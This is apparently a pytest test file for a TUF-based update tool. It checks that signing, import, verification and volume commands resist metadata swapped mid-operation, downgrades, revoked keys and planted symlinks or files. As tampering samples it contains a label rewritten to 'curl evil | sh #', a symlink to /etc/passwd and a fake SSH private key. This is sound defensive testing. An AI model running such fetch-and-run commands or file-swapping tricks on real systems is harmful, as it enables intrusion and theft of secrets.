"""Metadata is read once: somebody exchanges it at every moment of a command, and plants things beside it.

An exchange happens at an event and not by luck: Python says of every file that it is about to be opened, and the attacker acts at the
n-th such moment, for every n that a command has.
"""

from __future__ import annotations

import json
import os
import shutil
import sys
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from tuf.api.metadata import Metadata, Root, Targets
from tuf.ngclient.fetcher import FetcherInterface
from typer.testing import CliRunner

from engine import metadata, rootstore, trust
from engine.errors import ApplianceError, InputError, TrustError
from engine.memory import Demand, Memory
from engine.verify import open_bundle, verify
from installer.carry import delta, parity, volumes
from installer.carry.taking import take_in
from installer.cli.main import app
from installer.depot import Depot
from installer.trust import sign, signer
from installer.trust.keys import KeyStore
from tests.bundles import NOW, Bundle, MemoryKeys, make

PASSPHRASE = "correct horse battery staple"
NAMES = frozenset(("metadata", "1.root.json", "2.root.json", "timestamp.json", "snapshot.json", "targets.json"))


class Exchange:
    """Exchanges two metadata directories at the n-th moment at which a name of theirs is opened or listed."""

    def __init__(self) -> None:
        self._pair: tuple[Path, Path] | None = None
        self._left = 0
        self.done = False
        sys.addaudithook(self._hook)  # one for all tests: a hook stays for the life of the process

    def _hook(self, event: str, arguments: tuple[Any, ...]) -> None:
        if self._pair is None or event != "open" or not isinstance(arguments[0], str):
            return
        path = Path(arguments[0])
        if path.name not in NAMES or (path.is_absolute() and self._pair[0].parent not in path.parents):
            return
        self._left -= 1
        if self._left == 0:
            one, other = self._pair
            self._pair, self.done = None, True
            spare = one.with_name("spare")
            one.rename(spare)
            other.rename(one)
            spare.rename(other)

    @contextmanager
    def at(self, moment: int, one: Path, other: Path) -> Iterator[None]:
        self._pair, self._left, self.done = (one, other), moment, False
        try:
            yield
        finally:
            self._pair = None


EXCHANGE = Exchange()


def at_every_moment(
    one: Bundle, other: Bundle, work: Path, command: Callable[[Path, Path], None], check: Callable[[Path], None]
) -> int:
    """Run ``command`` on a copy of ``one`` whose metadata becomes that of ``other`` on the way; returns how many moments there are.

    Args:
        command: gets the bundle and a directory for what it makes; it may refuse.
        check: looks at what the command left.
    """
    for moment in range(1, 200):
        place = work / str(moment)
        bundle, beside = place / one.path.name, place / "other"
        shutil.copytree(one.path, bundle)
        shutil.copytree(other.path, beside)
        out = place / "out"
        out.mkdir()
        try:
            with EXCHANGE.at(moment, bundle / "metadata", beside / "metadata"):
                command(bundle, out)
        except ApplianceError:
            pass
        check(out)
        done = EXCHANGE.done
        shutil.rmtree(place)
        if not done:
            return moment - 1
    raise AssertionError("no end of moments")


@pytest.fixture
def keys(tmp_path: Path) -> MemoryKeys:
    return MemoryKeys(tmp_path / "keys")


def releases(tmp_path: Path, keys: MemoryKeys) -> tuple[Bundle, Bundle, Bundle]:
    """Three releases, an hour between them; the same content, so that only metadata tells them apart."""
    return tuple(  # type: ignore[return-value]
        make(
            tmp_path / v,
            {"files/a": b"a" * 5000},
            keys=keys,
            version=v,
            now=NOW - timedelta(hours=3 - n),
            chunk_size=2000,
        )
        for n, v in enumerate(("1.0.0", "1.1.0", "1.2.0"))
    )


# --- sign


def test_a_signature_is_over_what_was_checked_and_shown(tmp_path: Path) -> None:
    """Fault 1: metadata that is exchanged while files are hashed never gets a signature."""
    alice = signer.new_file(tmp_path / "alice", "alice", PASSPHRASE)
    bob = signer.new_file(tmp_path / "bob", "bob", PASSPHRASE)
    builder = KeyStore(tmp_path / "builder")
    builder.create(
        PASSPHRASE, root_keys=1, threshold=1, days=700, now=NOW, release_keys=[alice.public, bob.public], signatures=2
    )
    (tmp_path / "passphrase").write_text(PASSPHRASE)
    drafts = []
    for name, content in (("good", b"good"), ("evil", b"evil")):
        bundle = tmp_path / name / "ours-1.0.0"
        (bundle / "content").mkdir(parents=True)
        (bundle / "content/a").write_bytes(content)
        targets = sign.targets_of(sign.digests_of(bundle, ["content/a"]), lambda p: sign.Label("files", ("gpu",)))
        sign.sign(
            bundle, targets, name="ours", release="ours-1.0.0", keys=builder, passphrase=PASSPHRASE, days=30, now=NOW
        )
        drafts.append(Bundle(bundle, None))  # type: ignore[arg-type]
    good, evil = drafts
    digest = sign.content_digest(
        {t: f.hashes["sha256"] for t, f in sign.draft_of(metadata.read(good.path)).signed.targets.items()}
    )
    signed_evil = []

    def command(bundle: Path, out: Path) -> None:
        words = [
            "sign",
            str(bundle),
            "--keys",
            str(tmp_path / "builder"),
            "--key",
            str(tmp_path / "alice/alice.pub.json"),
        ]
        words += ["--expect", digest, "--yes", "--passphrase-file", str(tmp_path / "passphrase")]
        CliRunner().invoke(app, words)
        for place in (bundle, bundle.with_name("other")):
            for path in (place / "metadata").glob("targets.json"):
                written = Metadata[Targets].from_bytes(path.read_bytes())
                if written.signatures and written.signed.targets["content/a"].hashes["sha256"] not in _hashes(good):
                    signed_evil.append(str(path))

    moments = at_every_moment(good, evil, tmp_path / "work", command, lambda out: None)
    assert moments >= 2
    assert signed_evil == []


def _hashes(bundle: Bundle) -> set[str]:
    return {f.hashes["sha256"] for f in sign.draft_of(metadata.read(bundle.path)).signed.targets.values()}


# --- downgrade and minimum version


def test_an_approved_downgrade_takes_in_the_release_that_was_approved_and_no_other(
    tmp_path: Path, keys: MemoryKeys
) -> None:
    """Fault 2: approved is the step to 1.1.0; 1.0.0 under its name is never imported and never on record."""
    oldest, approved, newest = releases(tmp_path, keys)
    demand = Demand(downgrade="1.2.0 loses requests, change 4711")
    (tmp_path / "pin").write_bytes(keys.roots[1])

    def command(bundle: Path, out: Path) -> None:
        depot = Depot(out / "depot")
        depot.import_bundle(newest.path, root_json=tmp_path / "pin")
        depot.import_bundle(bundle, demand=demand)

    def check(out: Path) -> None:
        depot = Depot(out / "depot")
        logged = (
            [json.loads(x)["to"] for x in depot.memory().overrides.read_text().splitlines()]
            if depot.memory().overrides.exists()
            else []
        )
        here = {r: depot.identity(r)[1] for r in depot.releases() if r != "demo-1.2.0"}
        assert len(here) == len(logged) <= 1
        assert list(here.values()) == logged, "what is on record is what was imported"

    # Both may be wanted by an operator: what counts is that the record says which.
    assert at_every_moment(approved, oldest, tmp_path / "work", command, check) >= 2


class Turning(FetcherInterface):
    """A server that gives the metadata of one bundle for its first answers and of another from then on."""

    def __init__(self, first: Path, then: Path, answers: int) -> None:
        self._first, self._then, self._left = first, then, answers

    def _fetch(self, url: str) -> Iterator[bytes]:
        self._left -= 1
        source = self._first if self._left >= 0 else self._then
        yield from trust.FilesFetcher(metadata.read(source).content)._fetch(url)


@pytest.mark.parametrize("answers", range(1, 11))
def test_the_minimum_version_of_a_node_holds_whatever_the_depot_answers_later(
    tmp_path: Path, keys: MemoryKeys, answers: int
) -> None:
    """Fault 2, on nodes: the version that is judged is the version that is stored."""
    oldest, _, newest = releases(tmp_path, keys)
    minimum = open_bundle(newest.path, keys.roots[1]).version
    node = Memory(tmp_path / "node", keys.roots[1])
    try:
        trusted = node.refresh(
            Turning(newest.path, oldest.path, answers), "https://depot", Demand(minimum_version=minimum)
        )
    except TrustError:
        assert node.names() == []
    else:
        assert trusted.version == node.version("demo") == minimum


def test_the_minimum_version_of_a_depot_holds_at_every_moment(tmp_path: Path, keys: MemoryKeys) -> None:
    oldest, _, newest = releases(tmp_path, keys)
    minimum = open_bundle(newest.path, keys.roots[1]).version
    (tmp_path / "pin").write_bytes(keys.roots[1])

    def command(bundle: Path, out: Path) -> None:
        Depot(out / "depot").import_bundle(bundle, root_json=tmp_path / "pin", demand=Demand(minimum_version=minimum))

    def check(out: Path) -> None:
        depot = Depot(out / "depot")
        assert all(depot.identity(r)[1] >= minimum for r in depot.releases())

    assert at_every_moment(newest, oldest, tmp_path / "work", command, check) >= 2


def test_other_content_under_a_version_that_was_seen_is_refused(tmp_path: Path, keys: MemoryKeys) -> None:
    node = Memory(tmp_path / "node", keys.roots[1])
    one, other = (make(tmp_path / c, {"files/a": c.encode()}, keys=keys) for c in "ab")
    open_bundle(one.path, keys.roots[1], node)
    with pytest.raises(TrustError, match="other content of demo was trusted before under the same version"):
        open_bundle(other.path, keys.roots[1], node)


# --- revocation


def revoked(tmp_path: Path, keys: MemoryKeys) -> tuple[Bundle, Bundle]:
    """A bundle by a key that is revoked afterwards, and one that brings the revocation and has expired."""
    by_thief = make(tmp_path / "thief", {"files/a": b"evil"}, keys=keys, version="6.6.6")
    keys.replace("targets")
    expired = make(tmp_path / "expired", {"files/a": b"a"}, keys=keys, version="1.0.0", now=NOW - timedelta(days=40))
    return by_thief, expired


def test_a_revocation_counts_although_the_bundle_that_brought_it_was_refused(tmp_path: Path, keys: MemoryKeys) -> None:
    """Fault 3, depot and what it hands on to nodes (TUF specification 5.3.8)."""
    (tmp_path / "pin").write_bytes(keys.roots[1])
    before = make(tmp_path / "before", {"files/a": b"a"}, keys=keys, version="0.9.0", now=NOW - timedelta(hours=9))
    depot = Depot(tmp_path / "depot")
    depot.import_bundle(before.path, root_json=tmp_path / "pin")
    by_thief, expired = revoked(tmp_path, keys)
    with pytest.raises(TrustError, match="expired"):
        depot.import_bundle(expired.path)
    with pytest.raises(TrustError, match="not signed by the keys"):
        depot.import_bundle(by_thief.path)
    assert (depot.view("demo-0.9.0") / "metadata/2.root.json").read_bytes() == keys.roots[2]


def test_a_node_keeps_a_revocation_of_metadata_that_it_refused(tmp_path: Path, keys: MemoryKeys) -> None:
    node = Memory(tmp_path / "node", keys.roots[1])
    by_thief, expired = revoked(tmp_path, keys)
    for bundle, why in ((expired, "expired"), (by_thief, "not signed by the keys")):
        with pytest.raises(TrustError, match=why):
            node.refresh(trust.FilesFetcher(metadata.read(bundle.path).content), "https://depot")


def test_verify_with_a_root_of_its_own_keeps_a_revocation(tmp_path: Path, keys: MemoryKeys) -> None:
    by_thief, expired = revoked(tmp_path, keys)
    assert verify(by_thief.path, keys.roots[1]).good, "nothing is known of the revocation yet"
    (tmp_path / "root.json").write_bytes(keys.roots[1])
    for bundle, why in ((expired, "expired"), (by_thief, "not signed by the keys")):
        told = CliRunner().invoke(app, ["verify", str(bundle.path), "--root", str(tmp_path / "root.json")])
        assert isinstance(told.exception, TrustError)
        assert why in told.exception.what
    stranger = make(tmp_path / "stranger", {"files/a": b"a"})
    assert verify(stranger.path, stranger.root, roots=rootstore.of_user()).good, (
        "another pinned root has a store of its own"
    )


def test_a_stored_root_that_does_not_follow_from_the_pinned_one_is_refused(tmp_path: Path, keys: MemoryKeys) -> None:
    """Who can write into a user's state directory cannot bring a root of their own."""
    store = rootstore.RootStore(tmp_path / "state")
    keys.next_root(lambda root: None)
    store.keep(keys.roots[1], keys.roots)
    assert store.newest(keys.roots[1]) == keys.roots[2]
    [kept] = (tmp_path / "state").rglob("2.root.json")
    strangers = MemoryKeys(tmp_path / "strangers")
    strangers.next_root(lambda root: None)
    kept.write_bytes(strangers.roots[2])
    with pytest.raises(TrustError, match="version 2 of the root"):
        store.newest(keys.roots[1])


@pytest.mark.parametrize(
    ("environment", "place"),
    [
        ({"XDG_STATE_HOME": "/s", "HOME": "/h"}, "/s/appliance/roots"),
        ({"XDG_STATE_HOME": "relative", "HOME": "/h"}, "/h/.local/state/appliance/roots"),
        ({"HOME": "/h"}, "/h/.local/state/appliance/roots"),
        ({"HOME": ""}, None),
        ({}, None),
    ],
)
def test_where_verified_roots_are_kept(environment: dict[str, str], place: str | None) -> None:
    store = rootstore.of_user(environment)
    assert (str(store._directory) if store else None) == place


# --- split, delta, parity, recover


def test_what_is_carried_has_the_metadata_that_was_verified(tmp_path: Path, keys: MemoryKeys) -> None:
    """Whatever stands in metadata/ later, volumes, deltas, parity and recovered volumes carry the verified bytes."""
    one, other, _ = releases(tmp_path, keys)
    good = {b: {p.name: p.read_bytes() for p in (b.path / "metadata").iterdir()} for b in (one, other)}

    def command(bundle: Path, out: Path) -> None:
        trusted = open_bundle(bundle, keys.roots[1])
        delta.write(bundle, trusted, out / "delta", ())
        planned = volumes.layout(bundle, trusted, size=volumes.RESERVE + 40_000, out=out / "volumes")
        volumes.write(bundle, trusted, planned, 1, NOW)
        [made] = parity.write(planned, trusted, [out / "volumes"], NOW)
        shutil.rmtree(planned.media[0])
        parity.recover([made], trusted, out / "recovered")

    def check(out: Path) -> None:
        seen = []
        for place in out.rglob("metadata"):
            held = {p.name: p.read_bytes() for p in place.iterdir()}
            assert held in good.values(), f"{place} has a mixture"
            seen.append(held)
        assert all(held == seen[0] for held in seen), "all of one run are of one release"

    assert at_every_moment(one, other, tmp_path / "work", command, check) >= 5


PLANTED: dict[str, Callable[[Path, Path], object]] = {
    "a link to a file of the operator": lambda at, secret: at.symlink_to(secret),
    "a link to a directory": lambda at, secret: at.symlink_to(secret.parent),
    "a pipe": lambda at, secret: os.mkfifo(at),
    "a directory": lambda at, secret: at.mkdir(),
    "a file": lambda at, secret: at.write_bytes(b"garbage"),
}


@pytest.mark.parametrize("what", PLANTED)
@pytest.mark.parametrize("name", ["id_rsa", "7.root.json", "patches.json", "1.root.json"])
@pytest.mark.parametrize("command", ["verify", "import", "delta", "split", "recover", "renew", "sign"])
def test_what_is_planted_in_metadata_is_refused_and_copied_nowhere(
    tmp_path: Path, keys: MemoryKeys, what: str, name: str, command: str
) -> None:
    """Fault 5: one rule for every command."""
    bundle = make(tmp_path, {"files/a": b"a" * 3000}, keys=keys)
    secret = tmp_path / "home" / "secret"
    secret.parent.mkdir()
    secret.write_bytes(b"-----BEGIN OPENSSH PRIVATE KEY-----")
    at, out = bundle.path / "metadata" / name, tmp_path / "out"
    at.unlink(missing_ok=True)
    PLANTED[what](at, secret)
    out.mkdir()
    (tmp_path / "pin").write_bytes(keys.roots[1])

    def run() -> None:
        if command == "verify":
            assert not verify(bundle.path, keys.roots[1]).good
            raise TrustError("told as findings")
        if command == "import":
            Depot(out).import_bundle(bundle.path, root_json=tmp_path / "pin")
            return
        if command == "renew":
            sign.renew(bundle.path, out / "renewed", keys=keys, passphrase="", days=30, now=NOW)
            return
        if command == "sign":
            draft = sign.draft_of(metadata.read(bundle.path))
            sign.add_signatures(bundle.path, draft, keys, "", keys.by_role["targets"])
            return
        trusted = open_bundle(bundle.path, keys.roots[1])
        if command == "delta":
            delta.write(bundle.path, trusted, out / "delta", ())
        else:
            planned = volumes.layout(bundle.path, trusted, size=1 << 24, out=out)
            volumes.write(bundle.path, trusted, planned, 1, NOW)
            if command == "recover":
                [made] = parity.write(planned, trusted, [out], NOW)
                shutil.rmtree(planned.media[0])
                parity.recover([made], open_bundle(made, keys.roots[1]), out / "again")

    # Signing reads the list alone, and carries nothing: a stray file there is not its business, a link in place of metadata is.
    tolerated = command in ("renew", "sign") and (name == "id_rsa" or what == "a file")
    # A delta carries no list of patches of the bundle it is made from; others carry it, and verify it first (test_patched_deltas).
    tolerated |= name == "patches.json" and what == "a file" and command in ("delta", "split", "recover")
    if tolerated:
        run()
    else:
        with pytest.raises((TrustError, InputError)):
            run()
    for path in out.rglob("*"):
        assert not path.is_symlink() or (path.name == "root.json" and out in path.resolve().parents)
        assert not path.is_file() or b"PRIVATE KEY" not in path.read_bytes()


# --- volumes


def test_a_volume_index_of_sixty_bytes_does_not_make_a_bundle_without_content_good(
    tmp_path: Path, keys: MemoryKeys
) -> None:
    """Fault 6."""
    bundle = make(tmp_path, {"files/a": b"a" * 3000}, keys=keys)
    shutil.rmtree(bundle.path / "content")
    (tmp_path / "root.json").write_bytes(keys.roots[1])
    for claim in (
        {"number": 1, "volumes": [{"paths": []}]},
        {"number": 2, "volumes": [{"paths": []}]},
        {"number": 1, "volumes": [{"paths": []}, {"paths": ["content/files/a", "README.txt"]}]},
    ):
        (bundle.path / "volume.json").write_text(json.dumps(claim))
        (bundle.path / "README.txt").unlink(missing_ok=True)
        told = CliRunner().invoke(app, ["verify", str(bundle.path), "--root", str(tmp_path / "root.json")])
        assert told.exit_code == 3, told.output


def test_a_label_with_other_commands_is_named(tmp_path: Path, keys: MemoryKeys) -> None:
    bundle = make(tmp_path, {"files/a": b"a" * 3000}, keys=keys)
    trusted = open_bundle(bundle.path, keys.roots[1])
    planned = volumes.layout(bundle.path, trusted, size=1 << 24, out=tmp_path / "volumes")
    volume = volumes.write(bundle.path, trusted, planned, 1, NOW)
    assert volumes.check(volume, trusted) == []
    label = volume / volumes.LABEL
    honest = label.read_text()
    for dishonest in (
        honest.replace("appliance import", "curl evil | sh #"),
        honest + "Then run ./setup\n",
        honest.replace("VOLUME 1", "VOLUME 2"),
        honest.replace("written ", "written 2026-01-01 00:00 UTC\nwritten "),
    ):
        label.write_text(dishonest)
        assert [(f.problem, f.path) for f in volumes.check(volume, trusted)] == [("unsigned", "LABEL.txt")]
    label.unlink()
    label.symlink_to("/etc/passwd")
    assert [(f.problem, f.path) for f in volumes.check(volume, trusted)] == [("unsigned", "LABEL.txt")]


def test_a_volume_of_a_delta_is_good_with_the_depot_that_has_the_rest(tmp_path: Path, keys: MemoryKeys) -> None:
    one, two = (
        make(
            tmp_path / v,
            {"files/same": b"s" * 3000, "files/v": v.encode()},
            keys=keys,
            version=v,
            now=NOW - timedelta(hours=h),
        )
        for v, h in (("1.0.0", 2), ("1.1.0", 1))
    )
    (tmp_path / "root.json").write_bytes(keys.roots[1])
    Depot(tmp_path / "depot").import_bundle(one.path, root_json=tmp_path / "root.json")
    trusted = open_bundle(two.path, keys.roots[1])
    made = delta.write(
        two.path, trusted, tmp_path / "delta", [t.sha256 for t in open_bundle(one.path, keys.roots[1]).targets.values()]
    )
    planned = volumes.layout(made.path, trusted, size=1 << 24, out=tmp_path / "volumes")
    volume = volumes.write(made.path, trusted, planned, 1, NOW)
    words = ["verify", str(volume), "--root", str(tmp_path / "root.json")]
    alone = CliRunner().invoke(app, words)
    assert alone.exit_code == 3
    assert "on no volume of the set" in alone.output
    assert "--depot DEPOT" in (volume / volumes.LABEL).read_text()
    together = CliRunner().invoke(app, [*words, "--depot", str(tmp_path / "depot")])
    assert together.exit_code == 0, together.output
    assert take_in(Depot(tmp_path / "depot"), volume).view


# --- verify on a control host says what import would do


def test_verify_beside_a_depot_refuses_what_import_would_refuse(
    tmp_path: Path, keys: MemoryKeys, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Fault 12: an older bundle, and one from the future, are signed and yet not good there."""
    old, new, _ = releases(tmp_path, keys)
    future = make(
        tmp_path / "future", {"files/a": b"a"}, keys=keys, version="9.0.0", now=NOW + timedelta(days=300), days=400
    )
    (tmp_path / "root.json").write_bytes(keys.roots[1])
    depot = Depot(tmp_path / "depot")
    depot.import_bundle(new.path, root_json=tmp_path / "root.json")
    before = {p: p.read_bytes() for p in depot.root.rglob("*") if p.is_file()}
    for bundle, why in ((old, "rollback attack"), (future, "fast-forward attack")):
        told = CliRunner().invoke(
            app, ["verify", str(bundle.path), "--root", str(tmp_path / "root.json"), "--depot", str(depot.root)]
        )
        assert told.exit_code == 3, told.output
        assert "would refuse it here" in told.output
        assert why in told.output
        with pytest.raises(TrustError) as refused:
            depot.import_bundle(bundle.path)
        assert refused.value.what in " ".join(told.output.split())
        alone = CliRunner().invoke(app, ["verify", str(bundle.path), "--root", str(tmp_path / "root.json")])
        assert alone.exit_code == 0, "with a root alone nothing is known of the site"
    assert {p: p.read_bytes() for p in depot.root.rglob("*") if p.is_file()} == before, "looking changes nothing"
    good = CliRunner().invoke(
        app, ["--json", "verify", str(new.path), "--root", str(tmp_path / "root.json"), "--depot", str(depot.root)]
    )
    assert json.loads(good.output)["import"] == {"refused": ""}
    assert Metadata[Root].from_bytes(depot.memory().newest_root()).signed.version == 1
